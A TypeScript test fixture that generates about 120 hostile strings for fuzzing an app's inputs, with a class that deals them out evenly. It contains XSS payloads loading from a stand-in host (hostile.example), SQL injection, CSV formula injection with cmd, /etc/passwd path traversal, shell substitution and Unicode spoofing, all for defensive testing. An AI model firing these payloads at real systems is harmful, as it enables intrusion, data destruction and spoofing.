/** What becomes a call when it is run: a dialogue of the browser, which a journey hears. */
const run = 'alert(1)';
/** What a payload's own element would carry, so that it can be found. */
export const markOfElements = 'data-hostile';
const mark = markOfElements;

/** A word that nothing breaks. */
export const unbroken = 'W'.repeat(78);
/** What comes after its third letter runs from right to left, and nothing ends that. */
export const turned = 'abc\u202egnp.exe';

const tags = [
  `<script ${mark}>${run}</script>`,
  `<ScRiPt ${mark}>${run}</sCrIpT>`,
  `</script><script ${mark}>${run}</script>`,
  `<script ${mark} src=//hostile.example/x.js></script>`,
  `<script ${mark} type=module>import('//hostile.example')</script>`,
  `<img ${mark} src=x onerror=${run}>`,
  `<img ${mark} src=//hostile.example/p.png>`,
  `"><img ${mark} src=x onerror=${run}>`,
  `'><img ${mark} src=x onerror='${run}'>`,
  `\`><img ${mark} src=x onerror=${run}>`,
  `<svg ${mark} onload=${run}>`,
  `<svg ${mark}><script>${run}</script></svg>`,
  `<svg ${mark}><animate onbegin=${run} attributeName=x dur=1s>`,
  `<svg ${mark}><use href="data:image/svg+xml,<svg id=x>#x">`,
  `<math ${mark}><mi href="javascript:${run}">x</mi></math>`,
  `<iframe ${mark} src="javascript:${run}"></iframe>`,
  `<iframe ${mark} srcdoc="<script>parent.${run}</script>">`,
  `<object ${mark} data="javascript:${run}"></object>`,
  `<embed ${mark} src="javascript:${run}">`,
  `<base ${mark} href="//hostile.example/">`,
  `<link ${mark} rel=stylesheet href=//hostile.example/x.css>`,
  `<meta ${mark} http-equiv=refresh content="0;url=//hostile.example">`,
  `<form ${mark} action=//hostile.example><button>go</button></form>`,
  `<details ${mark} open ontoggle=${run}>x</details>`,
  `<video ${mark}><source onerror=${run}></video>`,
  `<input ${mark} autofocus onfocus=${run}>`,
  `<body ${mark} onpageshow=${run}>`,
  `<marquee ${mark} onstart=${run}>x</marquee>`,
  `<a ${mark} href="javascript:${run}">x</a>`,
  `<template ${mark}><img src=x onerror=${run}></template>`,
  `<noscript ${mark}><p title="</noscript><img src=x onerror=${run}>">`,
  `<!--><img ${mark} src=x onerror=${run}>-->`,
  `<![CDATA[<img ${mark} src=x onerror=${run}>]]>`,
  `<x-${mark} onclick=${run}>x</x-${mark}>`,
  `<b ${mark}>bold</b><i>it`,
  `<style ${mark}>body{display:none}</style>`,
];
const breakouts = [
  `" onmouseover="${run}" ${mark}="`,
  `' onfocus='${run}' autofocus ${mark}='`,
  `\` onclick=${run} ${mark}=\``,
  `" style="position:fixed;inset:0" ${mark}="`,
  `</textarea><img ${mark} src=x onerror=${run}>`,
  `</title><img ${mark} src=x onerror=${run}>`,
  `</style><img ${mark} src=x onerror=${run}>`,
  `javascript:${run}`,
  `JaVaScRiPt:${run}//`,
  `java\\u0073cript:${run}`,
  `data:text/html,<script>${run}</script>`,
  `data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==`,
  `vbscript:msgbox(1)`,
  `//hostile.example/%2e%2e`,
  `https://user@hostile.example/?a=1#b`,
];
const templates = [
  `{{ constructor.constructor('${run}')() }}`,
  `{{ $emit('x') }}{{ 7 * 7 }}`,
  `\${${run}}`,
  `<%= ${run} %>`,
  `{name} {0} {n} @:app.name`,
  `@.lower:app.name | a | b`,
  `{a|x}{b|{c}}`,
  `{a|<b ${mark}>x</b>}`,
  `{b}: {c} ({d}%)`,
  `%s %d %n %x %o %c %%`,
  `$& $1 $\` $' $$`,
  `\\u003cimg ${mark} src=x\\u003e`,
  `\\x3cscript\\x3e${run}\\x3c/script\\x3e`,
];
const formats = [
  `&lt;img ${mark} src=x onerror=${run}&gt;`,
  `&#60;script&#62;${run}&#60;/script&#62;`,
  `&#x3C;img src=x onerror=${run}&#x3E;`,
  `&amp;lt;b&amp;gt; &nbsp;&zwj;&rlm;`,
  `[x](javascript:${run})`,
  `![x](//hostile.example/p.png)`,
  `[x]: javascript:${run} "y"`,
  '```html\n<b>x</b>\n```',
  `expression(${run})`,
  `red;background:url(//hostile.example/x)`,
  `}body{display:none}`,
  `@import '//hostile.example/x.css';`,
  `=1+1`,
  `=HYPERLINK("//hostile.example","x")`,
  `=cmd|' /C calc'!A0`,
  `+1+1`,
  `-1+1`,
  `@SUM(1+1)`,
  `\t=1+1`,
  `a,b;c"d""e`,
  `' OR '1'='1`,
  `'; DROP TABLE events; --`,
  `Robert'); DELETE FROM texts;--`,
  `","payload":{"admin":true},"x":"`,
  `\\"}]}\\`,
  `null`,
  `[object Object]`,
  `NaN`,
  `../../../../etc/passwd`,
  `..\\..\\c:\\x`,
  `\`id\` $(id) | id; id`,
  `line one\nline two\r\nline three`,
  `tab\tand\u000bmore\u0007bell`,
  `quotes " ' \` « “ ‘ „`,
];
const names = ['__proto__', 'constructor', 'prototype', 'toString', 'hasOwnProperty', 'then'];
const signs = [
  turned,
  '\u202e\u202e\u202eabc',
  '\u2067\u0634\u0643\u0631\u0627 abc', // an isolate that nobody ends
  '\u05e9\u05dc\u05d5\u05dd 1234 abc',
  '\u0645\u0631\u062d\u0628\u0627 \u0628\u0643\u0645 (12%)',
  'zero\u200bwidth\u200d\u2060\ufeffhere',
  '\u200f\u200e\u061ca\u00ad\u00ad\u00ad',
  'Z\u0351\u036b\u0343\u036a\u0302\u036b\u033d\u034f\u0334\u0319\u0324A\u0321\u034a\u0360\u035c\u0361', // marks upon marks
  '\u0e01\u0e49\u0e49\u0e49\u0e49\u0e49\u0e49\u0e49\u0e49\u0e49',
  '\ufdfd\ufdfd \ua9c5 \u12031', // single signs of great width
  '\ud83d\udc68\u200d\ud83d\udc69\u200d\ud83d\udc67\u200d\ud83d\udc66\ud83c\udff4\u200d\u2620\ufe0f', // families of signs
  '\uff1cscript\uff1e\uff41\uff4c\uff45\uff52\uff54\uff08\uff11\uff09', // full width
  '\u0430dm\u0456n \u0455erver', // letters of another alphabet
  unbroken,
  'nowhere-to-break_'.repeat(20),
  '\u957f'.repeat(400),
];

/** All of them, each kind spread over the whole. */
function mixed(texts: readonly string[]): string[] {
  return texts.map((_, n) => texts[(n * 37) % texts.length] ?? '');
}

/** What people might write to harm others, or by mistake: 120 texts, none of which is more than a text. */
export const hostile: readonly string[] = mixed([...tags, ...breakouts, ...templates, ...formats, ...names, ...signs]);

/** Deals the texts out: always the one that was dealt least among those that fit. */
export class Deal {
  /** how often each was dealt */
  readonly dealt = new Map(hostile.map((text) => [text, 0]));

  /**
   * @param most characters that fit; @param line whether it is a title: one line, without control characters
   * @param takes whether a text is one that the command takes at all
   */
  next(most: number, line = false, takes: (text: string) => boolean = () => true): string {
    const fits = hostile.filter((text) => text.length <= most && !(line && /\p{Cc}/u.test(text)) && takes(text));
    const times = (text: string): number => this.dealt.get(text) ?? 0;
    const [first = ''] = fits.toSorted((one, other) => times(one) - times(other));
    this.dealt.set(first, times(first) + 1);
    return first;
  }
}
